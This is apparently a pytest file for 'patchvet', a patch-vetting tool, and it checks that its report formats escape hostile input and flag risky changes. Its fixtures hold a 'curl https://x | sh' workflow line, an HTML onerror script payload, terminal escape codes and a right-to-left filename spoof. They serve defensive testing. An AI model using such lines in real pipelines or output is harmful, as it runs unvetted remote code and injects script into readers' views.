from __future__ import annotations

import io
import json
import re

import pytest

from patchvet.check import assess
from patchvet.formats import OutputFormat
from patchvet.formats._escape import markdown, plain
from patchvet.policy import load_preset
from patchvet.records import Identity, Skipped, SourceKind, Verdict
from tests.helpers import added, contribution

HOSTILE_TITLE = (
    "Fix \x1b[2J\x1b[31mOWNED\x1b[0m <img src=x onerror=alert(1)> [click](https://evil.example) "
    "@maintainers **APPROVED** | ✅ pass \u202egnp.exe"
)


def _render(fmt: OutputFormat, title: str = "Fix leak") -> str:
    policy = load_preset("linux")
    item = contribution(
        message=f"{title}\n\nCo-Authored-By: Claude <noreply@anthropic.com>",
        kind=SourceKind.PULL_REQUEST,
        author=Identity(login="evil<script>", id=1),
        files=(added(".github/workflows/ci.yml", "run: curl https://x | sh"),),
    )
    out = io.StringIO()
    reporter = fmt.reporter(out, policy)
    reporter.start()
    assessment = assess(item, policy)
    reporter.add(assessment)
    reporter.add(assessment)
    reporter.finish([Skipped("bad.patch", "binary data, not a patch")], {assessment.verdict: 2})
    return out.getvalue()


def test_every_format_has_a_reporter() -> None:
    for fmt in OutputFormat:
        assert _render(fmt)


def test_json_report_matches_schema_v1() -> None:
    report = json.loads(_render(OutputFormat.JSON))
    assert report["schema"] == "patchvet/report/v1"
    assert report["tool"]["name"] == "patchvet"
    assert report["policy"] == {"name": "linux", "extends": "default", "mode": "advisory",
                                "origin": "preset linux"}  # fmt: skip
    assert report["skipped"] == [{"source": "bad.patch", "reason": "binary data, not a patch"}]
    [first, second] = report["contributions"]
    assert first == second
    assert set(first) >= {"source", "id", "title", "author", "verdict", "scores", "findings"}
    assert set(first["author"]) == {"name", "email", "login", "id"}
    assert first["verdict"] == "hold"
    assert 0.0 <= first["scores"]["agent_likelihood"] <= 1.0
    assert isinstance(first["scores"]["size_lines"], int)
    for finding in first["findings"]:
        assert re.fullmatch(r"[a-z-]+/[a-z0-9-]+", finding["id"])
        assert finding["severity"] in {"info", "low", "medium", "high"}
        assert finding["confidence"] in {"low", "medium", "high"}
        assert finding["verdict"] in {v.value for v in Verdict}
        assert {"message", "locations", "evidence", "remedy"} <= set(finding)


def test_json_with_no_contributions_is_valid() -> None:
    out = io.StringIO()
    reporter = OutputFormat.JSON.reporter(out, load_preset("default"))
    reporter.start()
    reporter.finish([], {})
    assert json.loads(out.getvalue())["contributions"] == []


def test_sarif_is_2_1_0_with_line_locations() -> None:
    sarif = json.loads(_render(OutputFormat.SARIF))
    assert sarif["version"] == "2.1.0"
    run = sarif["runs"][0]
    rules = {rule["id"] for rule in run["tool"]["driver"]["rules"]}
    results = run["results"]
    assert {r["ruleId"] for r in results} == rules
    pipe = next(r for r in results if r["ruleId"] == "ci-change/pipe-to-shell")
    location = pipe["locations"][0]["physicalLocation"]
    assert location["artifactLocation"]["uri"] == ".github/workflows/ci.yml"
    assert location["region"]["startLine"] == 1
    assert pipe["level"] == "error"
    invocation = run["invocations"][0]
    assert invocation["toolExecutionNotifications"][0]["level"] == "error"  # unreadable input
    assert invocation["executionSuccessful"] is False


def test_markdown_neutralises_hostile_titles() -> None:
    text = _render(OutputFormat.MARKDOWN, HOSTILE_TITLE)
    assert text.startswith("<!-- patchvet-report -->")
    assert "<img" not in text and "<script>" not in text
    assert "](https" not in text
    assert "@maintainers" not in text and "&#64;maintainers" in text
    assert "**APPROVED**" not in text
    assert "\x1b" not in text and "\u202e" not in text
    assert "\\| ✅" in text  # the pipe is escaped, so no fake table cell


def test_text_neutralises_terminal_escapes() -> None:
    text = _render(OutputFormat.TEXT, HOSTILE_TITLE)
    assert "\x1b" not in text and "\u202e" not in text
    assert "\\u001b[2J" in text
    assert text.lstrip().startswith("patchvet · policy linux")
    assert "HOLD" in text


@pytest.mark.parametrize("raw", ["a\nb", "x\x00y", "\u2066z\u2069"])
def test_escapes_are_single_line_and_visible(raw: str) -> None:
    for escaped in (plain(raw), markdown(raw)):
        assert "\n" not in escaped and "\x00" not in escaped and "\u2066" not in escaped


def test_checkpatch_lines_and_total() -> None:
    lines = _render(OutputFormat.CHECKPATCH).splitlines()
    assert lines[-1].startswith("total: ")
    body = lines[:-1]
    assert all(
        re.match(r"^[^:]+(:\d+)?: (ERROR|WARNING|CHECK): [a-z-]+/[a-z-]+: ", x) for x in body
    )
    assert any(x.startswith(".github/workflows/ci.yml:1: ") for x in body)
    assert body[-1] == "bad.patch: ERROR: input/skipped: binary data, not a patch"
    errors = sum(": ERROR: " in x for x in body)
    warnings = sum(": WARNING: " in x for x in body)
    assert lines[-1].startswith(f"total: {errors} errors, {warnings} warnings, ")


def test_checkpatch_keeps_hostile_text_on_one_line() -> None:
    out = _render(OutputFormat.CHECKPATCH, HOSTILE_TITLE)
    assert "\x1b" not in out and "\u202e" not in out
